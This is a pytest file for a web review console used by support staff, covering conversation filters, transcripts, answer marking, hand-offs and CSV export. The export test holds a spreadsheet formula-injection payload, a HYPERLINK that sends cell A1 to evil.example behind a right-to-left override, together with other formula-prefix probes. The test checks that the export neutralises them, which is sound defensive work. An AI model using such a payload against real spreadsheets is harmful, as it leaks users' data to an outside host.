"""Review over HTTP: finding conversations, judging answers, taking up hand-offs, exporting."""

import csv
import html
import io
import re
from dataclasses import replace
from datetime import timedelta

import pytest

from domain.conversation import EvidenceRow
from domain.delivery import OutboxState, Outgoing, Step
from domain.intents import IntentName
from domain.parties import Language
from domain.review import Mark, ReviewFilter, Verdict
from storage.outbox import SqlOutbox
from tests.console.premises import Browser, Premises
from tests.turns import NOON, a_turn


@pytest.fixture
def desk(browser: Browser, premises: Premises) -> Browser:
    """A browser in which somebody of support is signed in, over some conversations."""
    premises.employ("sana")
    for turn in (
        a_turn(1, "z5 rate?", "Rs 46,050", conversation="c1", sender="D-1"),
        a_turn(2, "زیڈ فائیو؟", "جی ہاں", conversation="c2", sender="D-2", language=Language.URDU),
        a_turn(
            3, "my phone broke", conversation="c3", sender="S-1", hand_offs=("complaint",), channel="telegram"
        ),
        a_turn(4, "qwer", conversation="c4", sender=None, error="Unavailable: <b>no</b> answer", intents=()),
        a_turn(5, "order?", conversation="c1", sender="D-1", intents=((IntentName.ORDER_STATUS, 0.4),)),
    ):
        premises.log.record(turn)
    browser.sign_in("sana")
    return browser


def listed(page: str) -> list[str]:
    return re.findall(r"/review/conversation\?name=(\w+)", page)


def test_conversations_come_newest_first_with_who_and_what(desk: Browser) -> None:
    page = desk.see("/review")
    assert listed(page) == ["c1", "c4", "c3", "c2"]
    for told in (
        "Ali Mobile",
        "نور موبائل",
        "Unknown person",
        "order?",
        "1 waiting",
        "Error",
        "12:05",
        "2 turns",
    ):
        assert told in page, told


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("words=46050", ["c1"]),
        ("words=%D8%B2%DB%8C%DA%88", ["c2"]),
        ("who=D-1", ["c1"]),
        ("who=ali", ["c1"]),
        ("who=nobody", []),
        ("flag=error", ["c4"]),
        ("flag=low_confidence", ["c1"]),
        ("flag=hand_off&channel=telegram", ["c3"]),
        ("flag=hand_off&channel=web", []),
        ("intent=order_status", ["c1"]),
        ("language=ur", ["c2"]),
        ("since=2026-03-05&until=2026-03-05", ["c1", "c4", "c3", "c2"]),
        ("since=2026-03-06", []),
        ("until=2026-03-04", []),
        ("words=&who=&flag=&intent=&language=&channel=&since=&until=", ["c1", "c4", "c3", "c2"]),
    ],
)
def test_filters_narrow(desk: Browser, query: str, found: list[str]) -> None:
    page = desk.see(f"/review?{query}")
    assert listed(page) == found
    assert ("Nothing is found" in page) is not found


@pytest.mark.parametrize("query", ["flag=loud", "language=fr", "since=then", "before=x", "intent=sing"])
def test_what_cannot_be_looked_for_is_said_plainly(desk: Browser, query: str) -> None:
    assert "<h1>" in desk.see(f"/review?{query}", 400)


def test_a_long_list_goes_on_where_it_ended(desk: Browser, premises: Premises) -> None:
    for number in range(10, 70):
        premises.log.record(a_turn(number, conversation=f"n{number}"))
    first = desk.see("/review?words=salam")
    further = re.search(r'hx-get="([^"]+)"', first)
    assert further
    rest = desk.see(html.unescape(further[1]), **{"HX-Request": "true"})
    assert "<html" not in rest
    assert listed(first) + listed(rest) == [f"n{number}" for number in range(69, 9, -1)] + ["c1", "c4", "c3"]


def test_a_transcript_shows_what_was_said_and_why(desk: Browser) -> None:
    page = desk.see("/review/conversation?name=c1&turn=t5")
    assert page.index("z5 rate?") < page.index("Rs 46,050") < page.index("order?")
    for told in (
        "Order status",
        "40 %",
        "Low confidence",
        "2.0 ms",
        "Ali Mobile",
        'class="case sought" id="turn-t5"',
    ):
        assert told in page, told
    assert "Unavailable: &lt;b&gt;no&lt;/b&gt; answer" in desk.see("/review/conversation?name=c4")
    assert "There is no such conversation" in desk.see("/review/conversation?name=c9", 404)


def test_a_transcript_tells_what_did_not_reach_the_person(desk: Browser, premises: Premises) -> None:
    outbox = SqlOutbox(premises.engine)
    answer = Outgoing("3", "sorry to hear that", turn="t3")
    first, second = outbox.post("telegram:7", [answer, answer], NOON)
    outbox.note([Step(first.seq, OutboxState.FAILED, "Forbidden: bot was <blocked>")])
    assert listed(desk.see("/review?flag=undelivered")) == ["c3"]
    page = desk.see("/review/conversation?name=c3")
    assert "Not delivered: <bdi>Forbidden: bot was &lt;blocked&gt;</bdi>" in page
    assert "Not delivered yet" in page
    outbox.note([Step(second.seq, OutboxState.SENT, reference="9", at=NOON)])
    assert "Not delivered yet" not in desk.see("/review/conversation?name=c3")


def test_a_long_transcript_is_read_page_by_page(desk: Browser, premises: Premises) -> None:
    for number in range(100, 220):
        premises.log.record(a_turn(number, f"saying {number}.", conversation="long"))
    page = desk.see("/review/conversation?name=long")
    assert "saying 219." in page
    assert "saying 100." not in page
    earlier = re.search(r'href="([^"]+)">Earlier turns', page)
    assert earlier
    page = desk.see(html.unescape(earlier[1]))
    assert "saying 169." in page
    assert "Later turns" in page
    assert "saying 120." in desk.see("/review/conversation?name=long&turn=t120")


def test_answers_are_marked_with_a_note(desk: Browser, premises: Premises) -> None:
    piece = desk.send("/review/marks", turn="t1", verdict="wrong", note=" <i>should be</i> 45,000 ").text
    assert "<html" not in piece
    assert "&lt;i&gt;should be&lt;/i&gt; 45,000" in piece
    assert "Marked wrong" in piece
    assert premises.marks.marks("t1") == (
        Mark("t1", "user:sana", Verdict.WRONG, premises.clock.now(), "<i>should be</i> 45,000"),
    )
    assert listed(desk.see("/review?flag=marked_wrong")) == ["c1"]
    without_script = desk.send("/review/marks", script=False, turn="t1", verdict="right")
    assert without_script.headers["location"] == "/review/conversation?name=c1&turn=t1"
    assert listed(desk.see("/review?flag=marked_wrong")) == []
    assert desk.send("/review/marks", turn="t9", verdict="right").status_code == 409
    assert desk.send("/review/marks", turn="t1", verdict="maybe").status_code == 400


def test_hand_offs_are_taken_up_once(desk: Browser, premises: Premises) -> None:
    premises.clock.at = NOON + timedelta(hours=3)
    page = desk.see("/review/hand-offs")
    for told in ("my phone broke", "Nadia Rep", "Complaint", "2 h", '<span class="count">1</span>'):
        assert told in page, told
    row = desk.send("/review/hand-offs", turn="t3", to="done", row="true").text
    assert "done by <b><bdi>sana</bdi></b>" in row
    assert "Nothing is waiting" in desk.see("/review/hand-offs")
    assert "my phone broke" in desk.see("/review/hand-offs?done=true")
    again = desk.send("/review/hand-offs", turn="t3", to="done")
    assert (again.status_code, "taken it up" in again.text) == (409, True)
    assert "Waits for a person" in desk.send("/review/hand-offs", turn="t3", to="waiting").text
    assert [state.turn for state in premises.review.waiting().hand_offs] == ["t3"]


def test_what_is_found_is_exported_without_formulas(desk: Browser, premises: Premises) -> None:
    attack = '=HYPERLINK("http://evil.example?"&A1,"\u202eclick")'
    texts = [attack, "+923001234567", "-5", "@SUM(A1)", "\t=1", "\r=1", 'a,b\n"c" ; d', "جی"]
    for number, text in enumerate(texts, start=10):
        premises.log.record(replace(a_turn(number, text, conversation="evil"), reply=text))
    answer = desk.http.get("/review/turns.csv?since=2026-03-05&who=D1")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in answer.headers["content-disposition"]
    assert answer.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert [row["message"] for row in rows] == [
        "جی",
        'a,b\n"c" ; d',
        "'\ufffd=1",
        "'\t=1",
        "'@SUM(A1)",
        "'-5",
        "'+923001234567",
        f"'{attack}",
    ]
    assert [row["turn"] for row in rows] == [
        one.turn.id for one in premises.review.turns(ReviewFilter(senders=("D1",)))
    ]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_the_why_tells_which_reader_was_heard(desk: Browser, premises: Premises) -> None:
    by = EvidenceRow("reading", "local", (("why", "the model took too long"), ("prompt", "reader.v1")))
    premises.log.record(replace(a_turn(6, "blrg", conversation="c6", sender="D-1"), evidence=(by,)))
    page = html.unescape(desk.see("/review/conversation?name=c6"))
    assert "reading of the local reader: the model took too long (reader.v1)" in page
